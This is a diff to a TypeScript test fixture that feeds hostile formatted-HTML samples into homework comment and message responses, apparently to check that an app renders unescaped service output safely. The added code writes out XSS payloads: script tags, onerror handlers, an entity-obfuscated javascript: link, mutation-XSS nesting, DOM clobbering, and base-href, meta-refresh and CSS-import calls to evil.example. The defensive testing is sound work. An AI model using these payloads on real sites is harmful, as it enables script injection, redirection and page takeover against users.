@@ -1,3 +1,5 @@
+import { isRecord } from '../../lib/isRecord.ts'
+
 /** A trick in formatted text. What succeeds sets `window.hacked`, asks `evil.example`, or takes the page over. */
 export type HostileRendering = { trick: string; html: string }
 
@@ -5,8 +7,8 @@ const run = 'window.hacked=true'
 const evil = 'https://evil.example'
 
 /**
- * HTML as a service that escapes nothing would send it in `comment_formatted` (cases 13, 15), a trick each. In the seed
- * school the nth pupil of homework 112 has the nth of them; the trick's name is the plain comment.
+ * HTML as a service that escapes nothing would send it in `comment_formatted` (cases 13, 15), a trick each. In a school
+ * with faults the nth pupil of homework 112 has the nth of them; the trick's name is the plain comment.
  */
 export const hostileRenderings: readonly HostileRendering[] = [
   { trick: 'script', html: `<script>${run}</script><script src="${evil}/a.js"></script>` },
@@ -169,3 +171,31 @@ export const hostileRenderings: readonly HostileRendering[] = [
   },
   { trick: 'text without an end', html: `<a title="${'x'.repeat(20_000)}` },
 ]
+
+/** A comment of the homework of odd hand-ins, which is a trick itself. */
+export const oddRendering: HostileRendering = {
+  trick: '<script>alert(1)</script><img src=x onerror=alert(2)>',
+  html: [
+    '<p>formatted by a service that escapes nothing</p><script>alert(10)</script>',
+    '<img src="https://evil.example/pixel.png" onerror="alert(11)"><a href="java&#10;script:alert(12)">link</a>',
+    '<svg><style><img src=x onerror=alert(13)></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(14)&gt;">',
+    '<iframe srcdoc="&lt;script&gt;alert(15)&lt;/script&gt;"></iframe><style>@import "https://evil.example/a.css";</style>',
+    '<form id="location" name="cookie"><input name="attributes"></form><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">over all</p>',
+  ].join(''),
+}
+
+const rendered = new Map<unknown, string>(
+  [...hostileRenderings, oddRendering].map(({ trick, html }) => [trick, html]),
+)
+
+/** The same messages or submissions, those that are a trick's name formatted as by a service that escapes nothing. */
+export async function withHostileRenderings(answer: Response): Promise<Response> {
+  if (!answer.ok) return answer
+  const body: unknown = JSON.parse(await answer.text(), (_name, value: unknown) => {
+    if (!isRecord(value)) return value
+    if (rendered.has(value.text)) return { ...value, text_formatted: rendered.get(value.text) }
+    return rendered.has(value.comment) ? { ...value, comment_formatted: rendered.get(value.comment) } : value
+  })
+  return Response.json(body, { headers: answer.headers })
+}
